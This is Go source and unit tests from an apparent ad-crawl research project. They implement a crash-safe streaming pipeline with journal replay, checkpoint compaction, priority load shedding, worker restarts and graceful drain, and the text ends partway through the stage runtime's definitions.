// tail records are re-folded, and completed visits will not be re-executed.
func NewService(study *core.Study, cfg ServiceConfig) (*Service, error) {
	if cfg.Journal == nil {
		return nil, fmt.Errorf("stream: ServiceConfig.Journal is required")
	}
	if cfg.CheckpointEvery == 0 {
		cfg.CheckpointEvery = DefaultCheckpointEvery
	}
	if cfg.CrawlWorkers <= 0 {
		cfg.CrawlWorkers = study.Cfg.Crawl.Parallelism
		if cfg.CrawlWorkers <= 0 {
			cfg.CrawlWorkers = 4
		}
	}
	if cfg.AnalyzeWorkers <= 0 {
		cfg.AnalyzeWorkers = study.Cfg.OracleParallelism
		if cfg.AnalyzeWorkers <= 0 {
			cfg.AnalyzeWorkers = 4
		}
	}
	if cfg.MaxImpressions <= 0 {
		cfg.MaxImpressions = DefaultMaxImpressions
	}
	tel := cfg.Stream.Tel
	if tel == nil {
		tel = study.Cfg.Telemetry
		if tel == nil {
			tel = telemetry.New(study.Cfg.Seed)
		}
		cfg.Stream.Tel = tel
	}
	s := &Service{
		study: study,
		cfg:   cfg,
		cr:    study.StreamCrawler(),
		agg:   NewAgg(),
		log:   journal.NewLog(cfg.Journal),
		tel:   tel,
	}
	s.setPhase(PhaseInit)
	if err := s.recover(); err != nil {
		s.setPhase(PhaseFailed)
		return nil, err
	}
	s.setPhase(PhaseReady)
	return s, nil
}

// recover replays the journal into the aggregate.
func (s *Service) recover() error {
	s.setPhase(PhaseReplaying)
	err := journal.Replay(s.cfg.Journal, func(r journal.Record) error {
		switch r.Kind {
		case CheckpointKind:
			var st aggState
			if err := json.Unmarshal(r.Payload, &st); err != nil {
				return fmt.Errorf("stream: checkpoint payload: %w", err)
			}
			s.agg.restore(st)
			s.recovered = int64(s.agg.DoneCount())
		case RecordKind:
			var rec VisitRecord
			if err := json.Unmarshal(r.Payload, &rec); err != nil {
				return fmt.Errorf("stream: visit payload: %w", err)
			}
			if s.agg.Fold(rec) {
				s.recovered++
			}
		default:
			return fmt.Errorf("stream: unknown journal record kind %q", r.Kind)
		}
		return nil
	})
	if err != nil {
		s.tel.Event(telemetry.LevelError, telemetry.EventJournalFailure, "commit",
			"journal replay failed", "err", err.Error())
		return err
	}
	s.tel.Counter("stream_recovered_total").Add(s.recovered)
	s.tel.Event(telemetry.LevelInfo, telemetry.EventJournalRecovery, "commit",
		"journal replay complete",
		"recovered", strconv.FormatInt(s.recovered, 10))
	return nil
}

// Recovered returns how many visit records were restored from the journal
// when the service was built.
func (s *Service) Recovered() int64 { return s.recovered }

// Summary returns the deterministic summary of everything committed so far.
func (s *Service) Summary() StreamSummary { return s.agg.Summary() }

// GraphSummary returns the flow-graph aggregate committed so far; zero when
// the graph oracle is off.
func (s *Service) GraphSummary() GraphSummary { return s.agg.GraphSummary() }

// Run executes the stream until the schedule is exhausted, the run context
// is cancelled (graceful drain), or the pipeline fails (journal crash,
// restart budget). A drained or completed run returns its results with a nil
// error; rerunning a recovered service continues where the journal left off.
func (s *Service) Run(ctx context.Context) (*RunResult, error) {
	p := NewPipeline(ctx, s.cfg.Stream)
	visitCh := Chan[seqVisit](p)
	outCh := Chan[visitOut](p)
	recCh := Chan[VisitRecord](p)

	var shed *Shedder[seqVisit]
	if s.cfg.Serve {
		shed = s.startServeSource(p, visitCh)
	} else {
		s.startScheduleSource(p, visitCh)
	}

	s.liveMu.Lock()
	s.pipe, s.shed = p, shed
	s.liveMu.Unlock()
	s.setPhase(PhaseRunning)
	mode := "schedule"
	if s.cfg.Serve {
		mode = "serve"
	}
	s.tel.Event(telemetry.LevelInfo, telemetry.EventRunStarted, "", "stream run started",
		"mode", mode,
		"recovered", strconv.FormatInt(s.recovered, 10))

	RunStage(p, "crawl", s.cfg.CrawlWorkers, visitCh, outCh,
		s.crawlWork, func(sv seqVisit, cause error) visitOut {
			return visitOut{seq: sv.seq, key: sv.v.Key(), aborted: true, cause: cause.Error()}
		})
	RunStage(p, "analyze", s.cfg.AnalyzeWorkers, outCh, recCh,
		s.analyzeWork, func(vo visitOut, cause error) VisitRecord {
			return VisitRecord{Seq: vo.seq, Key: vo.key, Aborted: true, AbortCause: cause.Error()}
		})

	ops := &Ops{Recovered: s.recovered}
	commitDone := make(chan struct{})
	go s.commitLoop(p, recCh, ops, commitDone)

	err := p.Wait()
	<-commitDone
	if shed != nil {
		ops.Shed = shed.Stats()
	}
	ops.Restarts = s.tel.Counter("stream_restarts_total").Value()
	res := &RunResult{Summary: s.agg.Summary(), Graph: s.agg.GraphSummary(), Ops: *ops}
	if err != nil {
		s.setPhase(PhaseFailed)
		s.tel.Event(telemetry.LevelError, telemetry.EventRunFinished, "", "stream run failed",
			"err", err.Error(),
			"committed", strconv.FormatInt(ops.Committed, 10))
		return res, err
	}
	s.setPhase(PhaseStopped)
	s.tel.Event(telemetry.LevelInfo, telemetry.EventRunFinished, "", "stream run finished",
		"committed", strconv.FormatInt(ops.Committed, 10),
		"aborted", strconv.FormatInt(ops.Aborted, 10))
	return res, nil
}

// startScheduleSource feeds the finite deterministic visit schedule,
// skipping sequence numbers the journal already proved done.
func (s *Service) startScheduleSource(p *Pipeline, visitCh chan<- seqVisit) {
	visits := s.cr.Visits(s.study.CrawlSites())
	s.tel.Gauge("stream_visits_planned").Set(int64(len(visits)))
	go func() {
		defer close(visitCh)
		for i, v := range visits {
			seq := int64(i)
			if s.agg.Done(seq) {
				continue
			}
			select {
			case visitCh <- seqVisit{seq: seq, v: v}:
			case <-p.Draining():
				return
			case <-p.WorkContext().Done():
				return
			}
		}
	}()
}

// startServeSource runs the open-ended impression stream: Zipf-sampled
// sites offered through the priority shedder, so overload sheds the least
// important impressions instead of stalling or dying.
func (s *Service) startServeSource(p *Pipeline, visitCh chan<- seqVisit) *Shedder[seqVisit] {
	capacity := s.cfg.ShedCapacity
	if capacity <= 0 {
		capacity = 2 * s.cfg.Stream.withDefaults().Queue
	}
	shed := NewShedder[seqVisit](capacity, s.tel)
	go shed.Pump(p, visitCh)

	sites := s.study.CrawlSites()
	totalSites := len(s.study.Web.Sites)
	zipf := stats.NewZipf(len(sites), 1.1)
	rng := stats.NewRNG(s.study.Cfg.Seed).Fork("stream-serve")
	var pace *time.Ticker
	if s.cfg.ServeRate > 0 {
		interval := time.Duration(float64(time.Second) / s.cfg.ServeRate)
		if interval <= 0 {
			interval = time.Nanosecond
		}
		pace = time.NewTicker(interval)
	}
	go func() {
		defer shed.Close()
		if pace != nil {
			defer pace.Stop()
		}
		for i := 0; i < s.cfg.MaxImpressions; i++ {
			if pace != nil {
				select {
				case <-pace.C:
				case <-p.Draining():
					return
				case <-p.WorkContext().Done():
					return
				}
			}
			select {
			case <-p.Draining():
				return
			case <-p.WorkContext().Done():
				return
			default:
			}
			site := sites[zipf.Sample(rng)]
			v := crawler.Visit{Site: site, Day: 1, Refresh: i}
			shed.Offer(seqVisit{seq: int64(i), v: v}, sitePriority(site, totalSites))
		}
	}()
	return shed
}

// sitePriority maps the paper's rank clusters onto shed bands: top-ranked
// publishers are the impressions the study can least afford to lose.
func sitePriority(site *webgen.Site, totalSites int) int {
	switch {
	case site.Rank <= 10_000:
		return PriorityHigh
	case totalSites > 0 && site.Rank > totalSites-10_000:
		return PriorityLow
	default:
		return PriorityMid
	}
}

// crawlWork executes one hermetic visit. An item cut off by cancellation is
// marked aborted rather than committed with a cancellation-skewed outcome:
// determinism demands that only fully-executed visits reach the journal.
func (s *Service) crawlWork(ctx context.Context, sv seqVisit) visitOut {
	if ctx.Err() != nil {
		return visitOut{seq: sv.seq, key: sv.v.Key(), aborted: true, cause: ctx.Err().Error()}
	}
	out := s.cr.CrawlOne(ctx, sv.v)
	if ctx.Err() != nil {
		return visitOut{seq: sv.seq, key: sv.v.Key(), aborted: true, cause: ctx.Err().Error()}
	}
	return visitOut{seq: sv.seq, key: sv.v.Key(), out: out}
}

// analyzeWork classifies every harvested ad of one visit and builds its
// journal record.
func (s *Service) analyzeWork(ctx context.Context, vo visitOut) VisitRecord {
	if vo.aborted {
		return VisitRecord{Seq: vo.seq, Key: vo.key, Aborted: true, AbortCause: vo.cause}
	}
	rec := VisitRecord{
		Seq:      vo.seq,
		Key:      vo.key,
		ErrCause: vo.out.ErrCause,
		Frames:   vo.out.Frames,
		NonAd:    vo.out.NonAd,
		Degraded: vo.out.Degraded,
	}
	for _, ha := range vo.out.Ads {
		inc := s.study.Oracle.ClassifyContext(ctx, ha.Ad)
		if ctx.Err() != nil {
			// Cut off mid-classification: the verdict may be degraded by the
			// cancellation, so the whole visit aborts and re-executes later.
			rec.Aborted, rec.AbortCause, rec.Ads = true, ctx.Err().Error(), nil
			return rec
		}
		rec.Ads = append(rec.Ads, NewAdRecord(ha, inc))
	}
	return rec
}

// commitLoop is the single journal writer: one span per record, append as
// the commit point, fold into the aggregate, compact periodically. A journal
// failure fails the pipeline — a service that cannot persist must stop, not
// silently diverge from its log.
func (s *Service) commitLoop(p *Pipeline, recCh <-chan VisitRecord, ops *Ops, done chan<- struct{}) {
	defer close(done)
	abortCount := s.tel.Counter("stream_aborted_total")
	skipCount := s.tel.Counter("stream_checkpoint_skipped_total")
	ckptCount := s.tel.Counter("stream_checkpoints_total")
	commitCount := s.tel.Counter("stream_committed_total")
	commitSeq := s.tel.Gauge("stream_commit_seq")
	errAppend := s.tel.Counter("stream_commit_errors_total", telemetry.L("cause", "append"))
	errCompact := s.tel.Counter("stream_commit_errors_total", telemetry.L("cause", "compact"))
	failed := false
	for rec := range recCh {
		if rec.Aborted {
			ops.Aborted++
			abortCount.Inc()
			continue
		}
		if failed {
			continue // drain without committing past a journal failure
		}
		_, sp := s.tel.StartSpan(context.Background(), telemetry.StageStreamCommit, rec.Key)
		if err := s.log.Append(RecordKind, rec); err != nil {
			sp.End()
			failed = true
			errAppend.Inc()
			s.tel.Event(telemetry.LevelError, telemetry.EventJournalFailure, "commit",
				"journal append failed", "err", err.Error())
			p.Fail(fmt.Errorf("stream: journal append: %w", err))
			continue
		}
		s.agg.Fold(rec)
		ops.Committed++
		commitCount.Inc()
		commitSeq.Set(ops.Committed)
		if s.cfg.CheckpointEvery > 0 && ops.Committed%int64(s.cfg.CheckpointEvery) == 0 {
			if c, ok := s.cfg.Journal.(journal.Compactor); ok {
				if err := s.compact(c); err != nil {
					sp.End()
					failed = true
					errCompact.Inc()
					s.tel.Event(telemetry.LevelError, telemetry.EventJournalFailure, "commit",
						"checkpoint compaction failed", "err", err.Error())
					p.Fail(fmt.Errorf("stream: checkpoint compaction: %w", err))
					continue
				}
				ops.Checkpoints++
				ckptCount.Inc()
				s.tel.Event(telemetry.LevelInfo, telemetry.EventCheckpoint, "commit",
					"journal compacted to checkpoint",
					"committed", strconv.FormatInt(ops.Committed, 10))
			} else {
				skipCount.Inc()
			}
		}
		sp.End()
	}
}

// compact rewrites the journal as one checkpoint record.
func (s *Service) compact(c journal.Compactor) error {
	payload, err := json.Marshal(s.agg.checkpoint())
	if err != nil {
		return err
	}
	return c.CompactTo([]journal.Record{{Kind: CheckpointKind, Payload: payload}})
}
