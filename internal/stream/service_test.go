package stream

import (
	"bytes"
	"context"
	"errors"
	"testing"
	"time"

	"madave/internal/core"
	"madave/internal/journal"
	"madave/internal/memnet"
	"madave/internal/resilient"
)

// testStudyConfig mirrors the root chaos-soak configuration at unit-test
// scale: a third of requests faulted, fast retries, no wall-clock visit
// deadline (determinism must not depend on machine speed).
func testStudyConfig(seed uint64) core.Config {
	cfg := core.DefaultConfig()
	cfg.Seed = seed
	cfg.CrawlSites = 30
	cfg.Crawl.Days = 1
	cfg.Crawl.Refreshes = 2
	cfg.Crawl.Parallelism = 4
	cfg.Crawl.VisitTimeout = -1
	cfg.Crawl.Retry = resilient.Policy{
		MaxAttempts:    3,
		BaseDelay:      time.Microsecond,
		MaxDelay:       20 * time.Microsecond,
		AttemptTimeout: 250 * time.Millisecond,
	}
	cfg.AnalysisRetry = cfg.Crawl.Retry
	cfg.OracleParallelism = 4
	prof := memnet.UniformProfile(0.3)
	cfg.Chaos = &prof
	return cfg
}

func newTestService(t *testing.T, seed uint64, j journal.Backend, mut func(*ServiceConfig)) *Service {
	t.Helper()
	study, err := core.NewStudy(testStudyConfig(seed))
	if err != nil {
		t.Fatal(err)
	}
	cfg := ServiceConfig{Journal: j, CheckpointEvery: -1}
	if mut != nil {
		mut(&cfg)
	}
	svc, err := NewService(study, cfg)
	if err != nil {
		t.Fatal(err)
	}
	return svc
}

func runToCompletion(t *testing.T, svc *Service) *RunResult {
	t.Helper()
	res, err := svc.Run(context.Background())
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	return res
}

func TestServiceUninterruptedRunsAreByteIdentical(t *testing.T) {
	a := runToCompletion(t, newTestService(t, 7, journal.NewMem(), nil))
	b := runToCompletion(t, newTestService(t, 7, journal.NewMem(), nil))
	if a.Summary.Visits == 0 || a.Summary.AdFrames == 0 {
		t.Fatalf("degenerate run: %+v", a.Summary)
	}
	if !bytes.Equal(a.Summary.JSON(), b.Summary.JSON()) {
		t.Fatalf("same-seed summaries differ:\n%s\n%s", a.Summary.JSON(), b.Summary.JSON())
	}
	if a.Ops.Committed != int64(a.Summary.Visits) || a.Ops.Aborted != 0 {
		t.Fatalf("ops = %+v for %d visits", a.Ops, a.Summary.Visits)
	}
}

func TestServiceKillRecoverByteIdentical(t *testing.T) {
	baseline := runToCompletion(t, newTestService(t, 11, journal.NewMem(), nil))

	// Crash at the journal commit point twice, recovering each time with a
	// fresh service (a process restart), then finish.
	mem := journal.NewMem()
	mem.FailAfter = 17
	svc := newTestService(t, 11, mem, nil)
	if _, err := svc.Run(context.Background()); !errors.Is(err, journal.ErrCrashed) {
		t.Fatalf("first leg: want ErrCrashed, got %v", err)
	}

	mem.Reopen(23)
	svc = newTestService(t, 11, mem, nil)
	if svc.Recovered() == 0 {
		t.Fatal("second leg recovered nothing")
	}
	if _, err := svc.Run(context.Background()); !errors.Is(err, journal.ErrCrashed) {
		t.Fatalf("second leg: want ErrCrashed, got %v", err)
	}

	mem.Reopen(0)
	svc = newTestService(t, 11, mem, nil)
	rec := svc.Recovered()
	if rec == 0 {
		t.Fatal("final leg recovered nothing")
	}
	final := runToCompletion(t, svc)
	if final.Summary.Visits != baseline.Summary.Visits {
		t.Fatalf("visits = %d, baseline %d", final.Summary.Visits, baseline.Summary.Visits)
	}
	if !bytes.Equal(final.Summary.JSON(), baseline.Summary.JSON()) {
		t.Fatalf("killed-and-recovered summary differs from uninterrupted baseline:\n%s\n%s",
			final.Summary.JSON(), baseline.Summary.JSON())
	}
	if final.Ops.Recovered != rec || final.Ops.Committed != int64(final.Summary.Visits)-rec {
		t.Fatalf("final ops = %+v (recovered %d)", final.Ops, rec)
	}
}

func TestServiceDrainThenRecoverByteIdentical(t *testing.T) {
	baseline := runToCompletion(t, newTestService(t, 13, journal.NewMem(), nil))

	// Request a graceful drain almost immediately: in-flight visits finish
	// and commit, the rest stay pending. A recovered service finishes the
	// stream and must land on the baseline bytes.
	mem := journal.NewMem()
	svc := newTestService(t, 13, mem, nil)
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		time.Sleep(30 * time.Millisecond)
		cancel()
	}()
	partial, err := svc.Run(ctx)
	if err != nil {
		t.Fatalf("drained run: %v", err)
	}
	if partial.Summary.Visits >= baseline.Summary.Visits {
		t.Skip("drain landed after the stream finished; nothing left to recover")
	}

	svc = newTestService(t, 13, mem, nil)
	final := runToCompletion(t, svc)
	if !bytes.Equal(final.Summary.JSON(), baseline.Summary.JSON()) {
		t.Fatalf("drained-and-recovered summary differs from baseline:\n%s\n%s",
			final.Summary.JSON(), baseline.Summary.JSON())
	}
}

func TestServiceCheckpointCompactionRoundTrip(t *testing.T) {
	mem := journal.NewMem()
	res := runToCompletion(t, newTestService(t, 17, mem, func(c *ServiceConfig) {
		c.CheckpointEvery = 10
	}))
	if res.Ops.Checkpoints == 0 {
		t.Fatal("no compactions despite CheckpointEvery=10")
	}

	// A service recovered from the compacted journal knows every visit is
	// done and has nothing left to run.
	svc := newTestService(t, 17, mem, func(c *ServiceConfig) { c.CheckpointEvery = 10 })
	if got := svc.Recovered(); got != int64(res.Summary.Visits) {
		t.Fatalf("recovered %d visits from checkpointed journal, want %d", got, res.Summary.Visits)
	}
	again := runToCompletion(t, svc)
	if again.Ops.Committed != 0 {
		t.Fatalf("recovered service re-executed %d visits", again.Ops.Committed)
	}
	if !bytes.Equal(again.Summary.JSON(), res.Summary.JSON()) {
		t.Fatalf("checkpoint round-trip changed the summary:\n%s\n%s",
			again.Summary.JSON(), res.Summary.JSON())
	}
}

func TestServiceServeModeShedsCountedUnderOverload(t *testing.T) {
	svc := newTestService(t, 19, journal.NewMem(), func(c *ServiceConfig) {
		c.Serve = true
		c.MaxImpressions = 150
		c.ShedCapacity = 2
		c.CrawlWorkers = 1
		c.AnalyzeWorkers = 1
		c.Stream.Queue = 2
	})
	res := runToCompletion(t, svc)
	st := res.Ops.Shed
	if st.Offered != 150 {
		t.Fatalf("offered = %d, want 150", st.Offered)
	}
	if st.Buffered != 0 {
		t.Fatalf("buffered = %d after drain", st.Buffered)
	}
	if st.Shed == 0 {
		t.Fatal("no impressions shed despite a saturated 2-slot admission buffer")
	}
	if st.Shed+st.Delivered != st.Offered {
		t.Fatalf("conservation violated: %+v", st)
	}
	if res.Ops.Committed != st.Delivered {
		t.Fatalf("committed %d != delivered %d: delivered impressions must never vanish silently",
			res.Ops.Committed, st.Delivered)
	}
	if int64(res.Summary.Visits) != st.Delivered {
		t.Fatalf("summary visits %d != delivered %d", res.Summary.Visits, st.Delivered)
	}
}
