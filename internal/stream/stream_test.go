package stream

import (
	"context"
	"errors"
	"sort"
	"sync"
	"testing"
	"time"

	"madave/internal/telemetry"
)

// collect drains out into a sorted slice, signaling done when out closes.
func collect(out <-chan int, done chan<- []int) {
	var got []int
	for v := range out {
		got = append(got, v)
	}
	sort.Ints(got)
	done <- got
}

// feed pushes 1..n into in and closes it.
func feed(in chan<- int, n int) {
	for i := 1; i <= n; i++ {
		in <- i
	}
	close(in)
}

func TestStageMapsEveryItemExactlyOnce(t *testing.T) {
	tel := telemetry.New(1)
	p := NewPipeline(context.Background(), Config{Queue: 4, Tel: tel})
	in := Chan[int](p)
	out := Chan[int](p)
	RunStage(p, "double", 3, in, out,
		func(ctx context.Context, v int) int { return 2 * v },
		func(v int, cause error) int { return -v })
	done := make(chan []int, 1)
	go collect(out, done)
	go feed(in, 50)
	got := <-done
	if err := p.Wait(); err != nil {
		t.Fatalf("Wait: %v", err)
	}
	if len(got) != 50 {
		t.Fatalf("got %d outcomes, want 50", len(got))
	}
	for i, v := range got {
		if v != 2*(i+1) {
			t.Fatalf("outcome[%d] = %d, want %d", i, v, 2*(i+1))
		}
	}
	if n := tel.Counter("stream_items_total", telemetry.L("stage", "double")).Value(); n != 50 {
		t.Fatalf("stream_items_total = %d, want 50", n)
	}
}

func TestStageChainingUnderTightBackpressure(t *testing.T) {
	// Queue 1 forces every stage boundary to exercise blocking handoff; all
	// items must still arrive exactly once through a two-stage chain.
	p := NewPipeline(context.Background(), Config{Queue: 1})
	in := Chan[int](p)
	mid := Chan[int](p)
	out := Chan[int](p)
	if cap(in) != 1 {
		t.Fatalf("Chan cap = %d, want 1", cap(in))
	}
	RunStage(p, "a", 2, in, mid,
		func(ctx context.Context, v int) int { return v + 100 },
		func(v int, cause error) int { return -v })
	RunStage(p, "b", 2, mid, out,
		func(ctx context.Context, v int) int { return v + 1000 },
		func(v int, cause error) int { return -v })
	done := make(chan []int, 1)
	go collect(out, done)
	go feed(in, 40)
	got := <-done
	if err := p.Wait(); err != nil {
		t.Fatalf("Wait: %v", err)
	}
	if len(got) != 40 || got[0] != 1101 || got[39] != 1140 {
		t.Fatalf("chained outcomes = %v", got)
	}
}

func TestPanickedWorkerIsRestartedAndItemGetsFallback(t *testing.T) {
	tel := telemetry.New(1)
	p := NewPipeline(context.Background(), Config{Queue: 4, RestartBudget: 10, Tel: tel})
	in := Chan[int](p)
	out := Chan[int](p)
	RunStage(p, "flaky", 2, in, out,
		func(ctx context.Context, v int) int {
			if v%10 == 0 {
				panic("boom")
			}
			return v
		},
		func(v int, cause error) int {
			if !errors.Is(cause, ErrPanicked) {
				return -1000000
			}
			return -v
		})
	done := make(chan []int, 1)
	go collect(out, done)
	go feed(in, 30)
	got := <-done
	if err := p.Wait(); err != nil {
		t.Fatalf("Wait: %v", err)
	}
	if len(got) != 30 {
		t.Fatalf("got %d outcomes, want 30 (accounting must not drop panicked items)", len(got))
	}
	// Items 10, 20, 30 surface as fallbacks -10, -20, -30.
	if got[0] != -30 || got[1] != -20 || got[2] != -10 {
		t.Fatalf("fallback outcomes = %v", got[:3])
	}
	l := telemetry.L("stage", "flaky")
	if n := tel.Counter("stream_worker_panics_total", l).Value(); n != 3 {
		t.Fatalf("panics = %d, want 3", n)
	}
	if n := tel.Counter("stream_worker_restarts_total", l).Value(); n != 3 {
		t.Fatalf("restarts = %d, want 3", n)
	}
	if n := tel.Counter("stream_fallback_outcomes_total", l).Value(); n != 3 {
		t.Fatalf("fallbacks = %d, want 3", n)
	}
}

func TestRestartBudgetExhaustionFailsPipeline(t *testing.T) {
	p := NewPipeline(context.Background(), Config{Queue: 2, RestartBudget: 3})
	in := Chan[int](p)
	out := Chan[int](p)
	RunStage(p, "doomed", 1, in, out,
		func(ctx context.Context, v int) int { panic("always") },
		func(v int, cause error) int { return -v })
	done := make(chan []int, 1)
	go collect(out, done)
	go func() {
		for i := 1; i <= 100; i++ {
			select {
			case in <- i:
			case <-p.WorkContext().Done():
				close(in)
				return
			}
		}
		close(in)
	}()
	<-done
	err := p.Wait()
	if !errors.Is(err, ErrRestartBudget) {
		t.Fatalf("Wait = %v, want ErrRestartBudget", err)
	}
}

func TestWatchdogReplacesWedgedWorker(t *testing.T) {
	tel := telemetry.New(1)
	block := make(chan struct{})
	defer close(block) // release the detached goroutine
	p := NewPipeline(context.Background(), Config{
		Queue: 4, WatchdogDeadline: 20 * time.Millisecond, RestartBudget: 4, Tel: tel,
	})
	in := Chan[int](p)
	out := Chan[int](p)
	RunStage(p, "sticky", 2, in, out,
		func(ctx context.Context, v int) int {
			if v == 7 {
				<-block // wedge: ignores ctx entirely
			}
			return v
		},
		func(v int, cause error) int {
			if !errors.Is(cause, ErrWedged) {
				return -1000000
			}
			return -v
		})
	done := make(chan []int, 1)
	go collect(out, done)
	go feed(in, 20)
	got := <-done
	if err := p.Wait(); err != nil {
		t.Fatalf("Wait: %v", err)
	}
	if len(got) != 20 {
		t.Fatalf("got %d outcomes, want 20 (wedged item must get a fallback)", len(got))
	}
	if got[0] != -7 {
		t.Fatalf("min outcome = %d, want -7 (fallback for the wedged item)", got[0])
	}
	l := telemetry.L("stage", "sticky")
	if n := tel.Counter("stream_worker_wedged_total", l).Value(); n != 1 {
		t.Fatalf("wedged = %d, want 1", n)
	}
	if n := tel.Counter("stream_worker_restarts_total", l).Value(); n != 1 {
		t.Fatalf("restarts = %d, want 1", n)
	}
}

func TestItemTimeoutBoundsWork(t *testing.T) {
	p := NewPipeline(context.Background(), Config{Queue: 2, ItemTimeout: 15 * time.Millisecond})
	in := Chan[int](p)
	out := Chan[int](p)
	RunStage(p, "slow", 1, in, out,
		func(ctx context.Context, v int) int {
			if v == 2 {
				<-ctx.Done() // honors its deadline and degrades
				return -v
			}
			return v
		},
		func(v int, cause error) int { return -1000000 })
	done := make(chan []int, 1)
	go collect(out, done)
	go feed(in, 3)
	got := <-done
	if err := p.Wait(); err != nil {
		t.Fatalf("Wait: %v", err)
	}
	want := []int{-2, 1, 3}
	if len(got) != 3 || got[0] != want[0] || got[1] != want[1] || got[2] != want[2] {
		t.Fatalf("outcomes = %v, want %v", got, want)
	}
}

func TestGracefulDrainFinishesInFlightItems(t *testing.T) {
	tel := telemetry.New(1)
	ctx, cancel := context.WithCancel(context.Background())
	p := NewPipeline(ctx, Config{Queue: 4, DrainTimeout: 5 * time.Second, Tel: tel})
	in := Chan[int](p)
	out := Chan[int](p)
	started := make(chan struct{}, 64)
	RunStage(p, "work", 2, in, out,
		func(ctx context.Context, v int) int {
			started <- struct{}{}
			time.Sleep(2 * time.Millisecond) // in flight while drain triggers
			return v
		},
		func(v int, cause error) int { return -v })
	done := make(chan []int, 1)
	go collect(out, done)

	var mu sync.Mutex
	var offered int
	go func() {
		defer close(in)
		for i := 1; ; i++ {
			select {
			case <-p.Draining():
				return
			case in <- i:
				mu.Lock()
				offered++
				mu.Unlock()
			}
		}
	}()
	// Let a few items start, then request shutdown.
	<-started
	<-started
	cancel()
	got := <-done
	if err := p.Wait(); err != nil {
		t.Fatalf("Wait: %v", err)
	}
	mu.Lock()
	n := offered
	mu.Unlock()
	if len(got) != n {
		t.Fatalf("drained %d outcomes for %d offered items: graceful drain must finish in-flight work", len(got), n)
	}
	for _, v := range got {
		if v < 0 {
			t.Fatalf("graceful drain produced degraded outcome %d", v)
		}
	}
	if d := tel.Counter("stream_drain_deadline_total").Value(); d != 0 {
		t.Fatalf("drain deadline fired %d times during a graceful drain", d)
	}
}

func TestDrainDeadlineCutsOffStragglers(t *testing.T) {
	tel := telemetry.New(1)
	ctx, cancel := context.WithCancel(context.Background())
	p := NewPipeline(ctx, Config{Queue: 2, DrainTimeout: 20 * time.Millisecond, Tel: tel})
	in := Chan[int](p)
	out := Chan[int](p)
	entered := make(chan struct{})
	RunStage(p, "straggler", 1, in, out,
		func(ctx context.Context, v int) int {
			close(entered)
			<-ctx.Done() // only yields at the hard cancel
			return -v
		},
		func(v int, cause error) int { return -1000000 })
	done := make(chan []int, 1)
	go collect(out, done)
	in <- 1
	close(in)
	<-entered
	cancel() // drain starts; the item never finishes gracefully
	got := <-done
	if err := p.Wait(); err != nil {
		t.Fatalf("Wait: %v", err)
	}
	if len(got) != 1 || got[0] != -1 {
		t.Fatalf("outcomes = %v, want [-1] (degraded at hard cancel)", got)
	}
	if d := tel.Counter("stream_drain_deadline_total").Value(); d != 1 {
		t.Fatalf("stream_drain_deadline_total = %d, want 1", d)
	}
}

func TestFailCancelsWork(t *testing.T) {
	p := NewPipeline(context.Background(), Config{Queue: 2})
	in := Chan[int](p)
	out := Chan[int](p)
	RunStage(p, "held", 1, in, out,
		func(ctx context.Context, v int) int {
			<-ctx.Done()
			return -v
		},
		func(v int, cause error) int { return -1000000 })
	done := make(chan []int, 1)
	go collect(out, done)
	in <- 1
	close(in)
	boom := errors.New("operator abort")
	p.Fail(boom)
	<-done
	if err := p.Wait(); !errors.Is(err, boom) {
		t.Fatalf("Wait = %v, want the injected failure", err)
	}
}
