// Package stream turns the batch crawl→match→honeyclient→oracle chain into
// a long-running, crash-safe streaming service. It provides:
//
//   - a supervised stage runtime: each pipeline stage is a pool of workers
//     connected by bounded channels (explicit backpressure). A panicked
//     worker is caught and respawned; a wedged worker (stuck past the
//     watchdog deadline) is detached and replaced. Both are paid for out of
//     a per-stage restart budget — a stage that keeps dying fails the run
//     instead of flapping forever, the same philosophy as the per-host
//     circuit breakers in internal/resilient.
//   - accounting that is never silent: every admitted item produces exactly
//     one downstream outcome. When a worker dies mid-item, the supervisor
//     synthesizes a degraded fallback outcome for that item, so sequence
//     accounting stays complete and the journal never has holes.
//   - admission control with priority shedding (see shed.go): when the
//     intake queue saturates, the lowest-priority impressions are dropped —
//     counted, never silently.
//   - graceful drain: cancelling the run context stops the source; in-flight
//     items finish under a drain deadline, after which stragglers are cut
//     off hard. Either way the commit stage checkpoints what completed.
//
// The service built on this runtime lives in service.go; the deterministic
// checkpoint/recovery layer it commits to is internal/journal.
package stream

import (
	"context"
	"errors"
	"fmt"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"madave/internal/telemetry"
)

// Defaults for Config zero fields.
const (
	DefaultQueue         = 64
	DefaultRestartBudget = 8
	DefaultDrainTimeout  = 30 * time.Second
)

// Config parameterizes the stage runtime.
type Config struct {
	// Queue is the capacity of each inter-stage channel (default 64). The
	// bound is the backpressure mechanism: a stage whose consumer lags
	// blocks instead of buffering without limit.
	Queue int
	// ItemTimeout bounds one item's processing via its context (0 = none).
	// Work that honors its context degrades gracefully at the deadline.
	ItemTimeout time.Duration
	// WatchdogDeadline is how long a worker may be busy on one item before
	// the supervisor declares it wedged, synthesizes a fallback outcome,
	// and replaces it (0 = 4x ItemTimeout; never below ItemTimeout). A
	// wedged worker that later returns finds its item already claimed and
	// exits without emitting.
	WatchdogDeadline time.Duration
	// RestartBudget is how many supervised restarts (panics + watchdog
	// replacements) each stage tolerates before the pipeline fails
	// (default 8).
	RestartBudget int
	// DrainTimeout bounds the graceful drain after the run context is
	// cancelled (default 30s). Items still in flight at the deadline are
	// cancelled hard and surface as degraded outcomes.
	DrainTimeout time.Duration
	// Tel, when non-nil, receives queue-depth gauges, per-stage item/panic/
	// restart counters, and drain spans. Purely observational.
	Tel *telemetry.Set
}

func (c Config) withDefaults() Config {
	if c.Queue <= 0 {
		c.Queue = DefaultQueue
	}
	if c.RestartBudget <= 0 {
		c.RestartBudget = DefaultRestartBudget
	}
	if c.DrainTimeout <= 0 {
		c.DrainTimeout = DefaultDrainTimeout
	}
	if c.WatchdogDeadline <= 0 && c.ItemTimeout > 0 {
		c.WatchdogDeadline = 4 * c.ItemTimeout
	}
	if c.WatchdogDeadline > 0 && c.WatchdogDeadline < c.ItemTimeout {
		c.WatchdogDeadline = c.ItemTimeout
	}
	if c.Tel == nil {
		c.Tel = telemetry.New(0)
	}
	return c
}

// Sentinel causes attached to fallback outcomes and pipeline failures.
var (
	// ErrPanicked marks an item whose worker panicked mid-processing.
	ErrPanicked = errors.New("stream: worker panicked")
	// ErrWedged marks an item whose worker blew the watchdog deadline.
	ErrWedged = errors.New("stream: worker wedged past watchdog deadline")
